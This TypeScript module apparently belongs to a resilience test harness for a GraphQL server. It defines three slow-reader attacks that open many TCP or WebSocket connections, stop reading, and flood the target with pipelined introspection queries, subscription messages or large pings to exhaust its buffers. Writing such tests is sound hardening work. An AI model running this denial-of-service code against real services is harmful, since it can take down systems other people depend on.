/** Clients that ask for much and take nothing of it. */
import { getIntrospectionQuery } from 'graphql';
import { type Attack, pause } from '../attack.ts';
import { rawPost, tcp, websocket } from '../clients.ts';

const CLIENTS = 20;
const REQUESTS = 140;
const QUERY = getIntrospectionQuery();

export const readers: readonly Attack[] = [
  {
    name: 'requests in a pipe whose answers nobody reads',
    async run(target, signal) {
      const sockets = await Promise.all(Array.from({ length: CLIENTS }, () => tcp(target)));
      const request = rawPost(JSON.stringify({ query: QUERY }));
      for (const socket of sockets) {
        socket.pause();
        socket.write(request.repeat(REQUESTS));
      }
      await pause(signal, 60_000);
      for (const socket of sockets) socket.destroy();
      return { sent: CLIENTS * REQUESTS, complaints: [] };
    },
  },
  {
    name: 'messages in one piece whose answers nobody reads',
    async run(target, signal) {
      const sockets = await Promise.all(Array.from({ length: CLIENTS }, () => websocket(target)));
      for (const socket of sockets) {
        socket.pause();
        for (let id = 0; id < REQUESTS; id += 1) {
          socket.send(JSON.stringify({ id: String(id), type: 'subscribe', payload: { query: QUERY } }));
        }
      }
      await pause(signal, 60_000);
      for (const socket of sockets) socket.terminate();
      return { sent: CLIENTS * REQUESTS, complaints: [] };
    },
  },
  {
    name: 'pings by the thousand whose pongs nobody reads',
    async run(target, signal) {
      const sockets = await Promise.all(Array.from({ length: CLIENTS }, () => websocket(target)));
      for (const socket of sockets) socket.pause();
      const ping = JSON.stringify({ type: 'ping', payload: { text: 'p'.repeat(10_000) } });
      let sent = 0;
      while (!signal.aborted && sent < 40_000) {
        for (const socket of sockets) {
          if (socket.bufferedAmount < 1_000_000) socket.send(ping);
          sent += 1;
        }
        await pause(signal, 1);
      }
      await pause(signal, 60_000);
      for (const socket of sockets) socket.terminate();
      return { sent, complaints: [] };
    },
  },
];
